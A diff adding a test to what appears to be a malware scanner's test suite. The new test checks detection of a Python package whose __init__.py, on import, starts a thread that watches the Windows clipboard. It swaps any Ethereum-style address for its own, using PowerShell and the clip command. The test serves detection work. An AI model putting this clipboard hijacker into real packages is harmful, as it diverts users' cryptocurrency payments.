@@ -232,3 +232,25 @@ test('an address of its own that a function puts into the clipboard is malware',
 
   expect(await inspect('spyware', file)).toMatchObject([{ class: 'malware', score: 10, context: 'call' }]);
 });
+
+test('a clipboard that is read and written by programs of the system is one all the same', async () => {
+  const watcher = (own: string, pattern: string): string =>
+    python(
+      'import re, subprocess, threading',
+      'def read():',
+      "    return subprocess.check_output(['powershell', '-c', 'Get-Clipboard']).decode().strip()",
+      'def watch():',
+      '    while True:',
+      '        text = read()',
+      `        if re.match(${pattern}, text): subprocess.call('echo|set /p=%s|clip' % ${own}, shell=True)`,
+      'threading.Thread(target=watch).start()',
+    );
+
+  expect(
+    await inspect(
+      'spyware',
+      wheel({ 'pkg/__init__.py': watcher("'0xExampleThatNobodyOwns'", "'^0x[a-fA-F0-9]{40}$'") }),
+    ),
+  ).toMatchObject([{ class: 'malware', score: 10, context: 'import', line: 7 }]);
+  expect(await inspect('spyware', wheel({ 'pkg/__init__.py': watcher('text.strip()', "'^ +'") }))).toEqual([]);
+});
